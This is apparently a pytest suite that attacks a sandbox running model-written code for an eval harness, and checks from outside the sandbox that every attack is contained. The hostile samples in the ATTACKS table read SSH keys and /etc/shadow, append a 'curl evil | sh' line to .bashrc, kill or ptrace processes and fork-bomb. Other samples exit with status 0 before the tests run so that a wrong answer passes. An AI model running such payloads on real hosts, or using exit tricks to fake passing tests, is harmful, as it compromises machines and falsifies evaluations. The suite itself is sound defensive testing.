"""The sandbox that runs model-written code, attacked as root, as a normal user and as root
without CAP_SYS_ADMIN: every attack is checked from outside (the host's files, processes, IPC
and sockets), a wrong answer never passes, and where no isolation can be made nothing runs.

The attacks run in a subprocess (sandbox_driver.py beside a copy of sandbox.py, in a folder
any user may read) started with the user and capabilities of each case, via setpriv/unshare.
"""

import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path
from string import Template

import pytest

import qwen2.eval.sandbox as sandbox_module
from qwen2.eval.sandbox import Limits, run_program

QUICK = Limits(wall_seconds=5, cpu_seconds=3, memory_mb=512, processes=16)
AS_ROOT = os.geteuid() == 0
WRONG = "def add(a, b):\n    return a - b\n"
TESTS = "\ndef check(f):\n    assert f(2, 3) == 5\n\ncheck(add)\n"

# each attack: its source (a Template over the host facts below), the limits, and whether it is
# run as a scored program (prove=True, as humaneval does)
ATTACKS = {
    "connect to a host port": ("import socket\nsocket.create_connection(('127.0.0.1', $port), timeout=2)\n"
                               "print('connected')\n", {}, False),
    "read a caller's file": ("print(open('$secret').read())\n", {}, False),
    "read the caller's ssh key": ("print(open('$home/.ssh/id_rsa').read())\n", {}, False),
    "append to the caller's .bashrc": ("open('$home/.bashrc', 'a').write('curl evil | sh\\n')\nprint('appended')\n",
                                       {}, False),
    # its /tmp is its own tmpfs: the write succeeds there, and the host's /tmp is checked from outside
    "write to the host's /tmp": ("open('$tmp_target', 'w').write('x')\nprint('wrote')\n", {}, False),
    "write to /run/lock": ("open('/run/lock/$name', 'w').write('x')\nprint('wrote')\n", {}, False),
    "write under /usr": ("open('/usr/$name', 'w').write('x')\nprint('wrote')\n", {}, False),
    "read /etc/shadow": ("print(open('/etc/shadow').read())\n", {}, False),
    "kill a process of the same user": ("import os\nos.kill($victim, 9)\nprint('killed')\n", {}, False),
    "kill every process it may": ("import os, signal\nos.kill(-1, signal.SIGKILL)\n", {}, False),
    "ptrace a process of the same user": (
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.ptrace(16, $victim, 0, 0)\n"
        "print('attached' if r == 0 else 'refused', ctypes.get_errno())\n", {}, False),
    "list the host's processes": (
        "import os\npids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "names = [open(f'/proc/{p}/cmdline', 'rb').read() for p in pids]\n"
        "print('pids', len(pids), 'victim seen' if any(b'$marker' in n for n in names) else '')\n", {}, False),
    "leave a setsid grandchild behind": (
        "import os, sys\nif os.fork() == 0:\n    os.setsid()\n"
        "    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', '$marker-orphan'])\n"
        "print('left one')\n", {}, False),
    "leave a SysV shared memory segment": (
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "print('shm', libc.shmget($shm_key, 1 << 20, 0o1000 | 0o666))\n", {}, False),
    "fork without limit": (
        "import os, sys\nif len(sys.argv) < 2:\n"
        "    os.execv(sys.executable, [sys.executable, __file__, '$marker-bomb'])\n"
        "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        dict(wall_seconds=3, cpu_seconds=5, processes=16), False),
    "allocate 4 GB": ("x = bytearray(4 * 1024**3)\nprint('allocated')\n", {}, False),
    "fill its tmpfs": ("open('/tmp/fill', 'wb').write(b'x' * (64 << 20))\nprint('filled')\n",
                       dict(tmpfs_mb=16, file_mb=128), False),
    "a right answer": ("def add(a, b):\n    return a + b\n" + TESTS, {}, True),
    "a wrong answer": (WRONG + TESTS, {}, True),
    "os._exit(0) before the tests": ("import os\n" + WRONG + "os._exit(0)\n" + TESTS, {}, True),
    "SystemExit(0) before the tests": (WRONG + "raise SystemExit(0)\n" + TESTS, {}, True),
    "an atexit hook that exits 0": ("import atexit, os\natexit.register(lambda: os._exit(0))\n" + WRONG + TESTS, {},
                                    True),
    "an excepthook that exits 0": ("import os, sys\nsys.excepthook = lambda *a: os._exit(0)\n" + WRONG + TESTS, {},
                                   True),
    "sys.exit(0) inside the function": ("import sys\ndef add(a, b):\n    sys.exit(0)\n" + TESTS, {}, True),
}
ESCAPES = {  # what the output would say had the attack worked
    "connect to a host port": "connected", "append to the caller's .bashrc": "appended",
    "write to /run/lock": "wrote", "write under /usr": "wrote",
    "kill a process of the same user": "killed", "ptrace a process of the same user": "attached",
    "list the host's processes": "victim seen", "allocate 4 GB": "allocated", "fill its tmpfs": "filled",
}
WRONG_ANSWERS = [n for n, (_, _, prove) in ATTACKS.items() if prove and n != "a right answer"]


def _world_python() -> str | None:
    """A Python that `nobody` may run: ours if every folder above it is world-executable, else the system's."""
    for candidate in (os.path.realpath(sys.executable), shutil.which("python3", path="/usr/bin:/bin")):
        if candidate and all(os.stat(p).st_mode & stat.S_IXOTH for p in [Path(candidate), *Path(candidate).parents]):
            return candidate
    return None


def _processes_with(marker: str) -> list[str]:
    found = []
    for p in Path("/proc").iterdir():
        try:
            if p.name.isdigit() and marker.encode() in (p / "cmdline").read_bytes():
                found.append(p.name)
        except OSError:
            pass
    return found


def _shm_keys() -> set[int]:
    lines = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    return {int(line.split()[0]) for line in lines}


class Host:
    """The things an attack goes after, planted where the attacking user could reach them unsandboxed."""

    def __init__(self, user: list[str], python: str):
        self.dir = Path(tempfile.mkdtemp(prefix="qwen2-sandbox-test-"))
        self.dir.chmod(0o755)
        shutil.copy(sandbox_module.__file__, self.dir / "sandbox.py")
        shutil.copy(Path(__file__).with_name("sandbox_driver.py"), self.dir / "sandbox_driver.py")
        self.home = self.dir / "home"
        (self.home / ".ssh").mkdir(parents=True)
        self.key = "-----BEGIN OPENSSH PRIVATE KEY----- " + uuid.uuid4().hex
        (self.home / ".ssh/id_rsa").write_text(self.key)
        (self.home / ".bashrc").write_text("# ours\n")
        self.secret = self.dir / "secret.txt"
        self.secret.write_text("secret " + uuid.uuid4().hex)
        for path in self.dir.rglob("*"):
            path.chmod(0o777 if path.is_dir() else 0o666)  # the attacking user could read and write them
        self.name = f"qwen2-escape-{uuid.uuid4().hex}"
        self.marker = f"qwen2-victim-{uuid.uuid4().hex}"
        self.tmp_target = Path(tempfile.gettempdir()) / self.name
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.setblocking(False)
        self.victim = subprocess.Popen([*user, python, "-c", "import time; time.sleep(120)", self.marker])
        self.shm_key = 0x51E20000 + int(uuid.uuid4().hex[:4], 16)

    def facts(self) -> dict:
        return dict(port=self.server.getsockname()[1], secret=self.secret, home=self.home, tmp_target=self.tmp_target,
                    name=self.name, victim=self.victim.pid, marker=self.marker, shm_key=self.shm_key)

    def close(self) -> None:
        self.victim.kill()
        self.victim.wait()
        self.server.close()
        shutil.rmtree(self.dir, ignore_errors=True)


def _attack(command: list[str], user: list[str]) -> tuple[dict, Host]:
    """Run every attack through the driver started with `command`; the victim runs with `user`."""
    host = Host(user, command[-1])
    try:
        facts = host.facts()
        attacks = {name: dict(source=Template(src).substitute(facts), limits={**QUICK.__dict__, **limits}, prove=prove)
                   for name, (src, limits, prove) in ATTACKS.items()}
        proc = subprocess.run([*command, str(host.dir / "sandbox_driver.py")], capture_output=True, text=True,
                              input=json.dumps(dict(attacks=attacks, secret=str(host.secret), concurrent=True)),
                              timeout=300)
        assert proc.returncode == 0, proc.stderr[-3000:]
        report = json.loads(proc.stdout)
        alive = host.victim.poll() is None
        report["host"] = dict(
            victim_alive=alive,
            victim_state=Path(f"/proc/{host.victim.pid}/status").read_text().split("State:")[1].split()[0]
            if alive else "dead",
            accepted=_accepted(host.server), bashrc=(host.home / ".bashrc").read_text(),
            created=[str(p) for p in (host.tmp_target, Path("/run/lock") / host.name, Path("/usr") / host.name)
                     if p.exists()],
            left=_processes_with(host.marker + "-"), shm=host.shm_key in _shm_keys(), key=host.key,
            secret=host.secret.read_text(), host_can_fork=subprocess.run(["true"]).returncode == 0)
        return report, host
    finally:
        host.close()


def _accepted(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
        return True
    except BlockingIOError:
        return False


ROOT_WITHOUT_SYS_ADMIN = ["setpriv", "--bounding-set=-sys_admin", "--inh-caps=-sys_admin"]
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


def _case(name: str) -> tuple[list[str], list[str]] | str:
    """(command prefix with its Python, prefix for the victim) for a case, or why it cannot run here."""
    if name == "caller":
        return [sys.executable], []
    if not AS_ROOT:
        return "needs root to start the other users (the caller's own case runs as this user)"
    if shutil.which("setpriv") is None:
        return "needs setpriv (util-linux) to drop to another user or capability set"
    if name == "nobody":
        python = _world_python()
        if python is None:
            return "no Python that the user nobody may run (ours is in a private folder, no /usr/bin/python3)"
        return [*NOBODY, python], NOBODY
    return [*ROOT_WITHOUT_SYS_ADMIN, sys.executable], []


@pytest.fixture(scope="module", params=["caller", "nobody", "root without CAP_SYS_ADMIN"])
def attacked(request):
    case = _case(request.param)
    if isinstance(case, str):
        pytest.skip(case)
    report, _ = _attack(*case)
    if report["isolation"] is None:
        pytest.skip(f"{request.param}: this machine allows no isolation for it ({report['results']})")
    return request.param, report


def test_every_case_is_isolated_with_namespaces(attacked):
    case, report = attacked
    expected = "namespaces (root" if case == "caller" and AS_ROOT else "user namespaces"
    assert report["isolation"].startswith(expected), report["isolation"]


@pytest.mark.parametrize("attack", list(ESCAPES))
def test_an_attack_is_stopped(attacked, attack):
    _, report = attacked
    result = report["results"][attack]
    assert result["status"] != "error", result["output"]  # the program ran: the sandbox stopped it
    assert ESCAPES[attack] not in result["output"], result["output"]


def test_nothing_escaped_as_seen_from_outside(attacked):
    _, report = attacked
    host, results = report["host"], report["results"]
    assert host["victim_alive"] and host["victim_state"] != "t"  # neither killed nor stopped under ptrace
    assert not host["accepted"], "a connection reached the host's port"
    assert host["bashrc"] == "# ours\n" and host["created"] == []
    assert host["left"] == [], "a process outlived its sample"
    assert not host["shm"], "a SysV shared memory segment outlived its sample"
    assert host["host_can_fork"]
    assert host["key"] not in results["read the caller's ssh key"]["output"]
    assert host["secret"] not in results["read a caller's file"]["output"]
    assert report["control"] == host["secret"]  # the same user reads it outside the sandbox: the attack was real
    assert "root:" not in results["read /etc/shadow"]["output"]
    assert "pids" in results["list the host's processes"]["output"]
    assert "found 0" in report["seen_beside"], report["seen_beside"]


def test_a_right_answer_passes_and_no_wrong_answer_does(attacked):
    _, report = attacked
    right = report["results"]["a right answer"]
    assert right["passed"] and right["status"] == "ok"
    for name in WRONG_ANSWERS:
        result = report["results"][name]
        assert not result["passed"], (name, result)
    # the exits themselves worked: only the missing proof keeps them from passing
    assert report["results"]["os._exit(0) before the tests"]["returncode"] == 0


def test_the_limits_hold(attacked):
    _, report = attacked
    results = report["results"]
    assert "MemoryError" in results["allocate 4 GB"]["output"]
    assert "No space left on device" in results["fill its tmpfs"]["output"]
    assert results["fork without limit"]["status"] in ("timeout", "failed", "killed")


def test_where_nothing_can_be_isolated_nothing_runs_unless_asked():
    """Root without CAP_SYS_ADMIN in a user namespace that may make no more: as in a default container."""
    if not AS_ROOT or shutil.which("unshare") is None or shutil.which("setpriv") is None:
        pytest.skip("needs root, unshare and setpriv to build a machine without namespaces")
    shell = ("echo 0 > /proc/sys/user/max_user_namespaces && exec " + " ".join(ROOT_WITHOUT_SYS_ADMIN) +
             " \"$0\" \"$1\"")
    probe = subprocess.run(["unshare", "--user", "--map-root-user", "true"], capture_output=True)
    if probe.returncode != 0:
        pytest.skip(f"cannot make a user namespace here to simulate it: {probe.stderr.decode().strip()}")
    report, _ = _attack(["unshare", "--user", "--map-root-user", "sh", "-c", shell, sys.executable], [])
    assert report["isolation"] is None
    for name, result in report["results"].items():
        assert result["status"] == "error" and "--unsafe-exec" in result["output"], (name, result)
    host = report["host"]
    assert host["victim_alive"] and host["bashrc"] == "# ours\n" and host["created"] == [] and not host["accepted"]
    assert report["unsafe"]["status"] == "ok" and "ran unisolated" in report["unsafe"]["output"]
    assert report["unsafe_isolation"].startswith("none (--unsafe-exec")


# the behaviour of one run, in whatever isolation this machine gives the caller


def test_a_correct_program_passes_and_its_output_is_kept():
    result = run_program("print('hello from the sandbox')\n", QUICK)
    assert result.ok and "hello from the sandbox" in result.output and not result.passed  # nothing to prove


def test_a_proven_pass_hides_its_token_from_the_output():
    result = run_program("print('done')\n", QUICK, prove=True)
    assert result.passed and result.output == "done\n"


def test_a_failing_assertion_is_a_failure_with_its_traceback():
    result = run_program("assert 1 + 1 == 3, 'arithmetic'\n", QUICK, prove=True)
    assert result.status == "failed" and "AssertionError: arithmetic" in result.output and not result.passed
    assert 'File "program.py", line 1' in result.output  # the traceback points into the program


def test_an_endless_loop_is_stopped_by_the_wall_timeout():
    start = time.monotonic()
    result = run_program("while True:\n    pass\n", Limits(wall_seconds=1.5, cpu_seconds=30))
    assert result.status == "timeout" and time.monotonic() - start < 60


def test_a_sleeping_program_is_stopped_by_the_wall_timeout():
    result = run_program("import time\ntime.sleep(60)\n", Limits(wall_seconds=1))
    assert result.status == "timeout"


def test_its_own_temp_dir_is_writable_and_its_home():
    result = run_program("import os\nopen('scratch.txt', 'w').write('x' * 100)\nprint(open('scratch.txt').read()[:3],"
                         " os.getcwd() == os.environ['HOME'])\n", QUICK)
    assert result.ok and "xxx True" in result.output


def test_megabytes_of_output_are_cut_and_cost_only_this_run():
    result = run_program("import sys\nwhile True:\n    sys.stdout.write('y' * 65536)\n",
                         Limits(wall_seconds=5, file_mb=1, output_chars=1000))
    assert not result.ok and len(result.output) <= 1000


def test_the_environment_is_minimal():
    os.environ["QWEN2_SANDBOX_SECRET"] = "hunter2"
    try:
        result = run_program("import os\nprint(sorted(os.environ))\n", QUICK)
    finally:
        del os.environ["QWEN2_SANDBOX_SECRET"]
    assert result.ok and "QWEN2_SANDBOX_SECRET" not in result.output


def test_a_folder_that_cannot_be_removed_fails_the_sample_and_raises_nothing(monkeypatch):
    """Unsafe mode works in a host folder: what a leftover process keeps there must not abort the eval."""
    monkeypatch.setattr(sandbox_module.shutil, "rmtree", lambda *a, **k: None)  # as if removal failed
    result = run_program("open('left.txt', 'w').write('x')\n", QUICK, prove=True, unsafe=True)
    monkeypatch.undo()
    assert result.status == "error" and not result.passed and "could not remove" in result.output
    shutil.rmtree(result.output.rsplit("could not remove ", 1)[1].strip())


def test_no_sandbox_answers_an_error_and_runs_nothing(monkeypatch, tmp_path):
    marker = tmp_path / "ran"
    monkeypatch.setattr(sandbox_module, "_probe", lambda: (None, "root: refused; user: refused"))
    result = run_program(f"open({str(marker)!r}, 'w')\n", QUICK, prove=True)
    assert result.status == "error" and "--unsafe-exec" in result.output and not marker.exists()
    assert sandbox_module.isolation() is None


def test_a_samples_processes_share_one_memory_cap_where_cgroups_can_be_made():
    if sandbox_module.isolation() is None or "cgroup" not in sandbox_module.isolation():
        pytest.skip("this user may make no cgroup here: memory is capped per process only (the docstring says so)")
    three = ("import os, time\nkids = []\nfor _ in range(3):\n    pid = os.fork()\n    if pid == 0:\n"
             "        x = b'x' * (300 << 20)\n        time.sleep(2)\n        os._exit(0)\n    kids.append(pid)\n"
             "codes = [os.waitpid(k, 0)[1] for k in kids]\nprint('all held' if not any(codes) else 'some killed')\n")
    result = run_program(three, Limits(memory_mb=512, wall_seconds=30))  # 900 MB in all, each under 512
    assert "some killed" in result.output, result.output
    assert "all held" in run_program(three, Limits(memory_mb=1536, wall_seconds=30)).output  # the control


def test_signals_from_the_program_reach_no_one_outside(tmp_path):
    victim = subprocess.Popen(["sleep", "60"])
    try:
        run_program(f"import os\nos.kill({victim.pid}, {int(signal.SIGKILL)})\n", QUICK)
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()
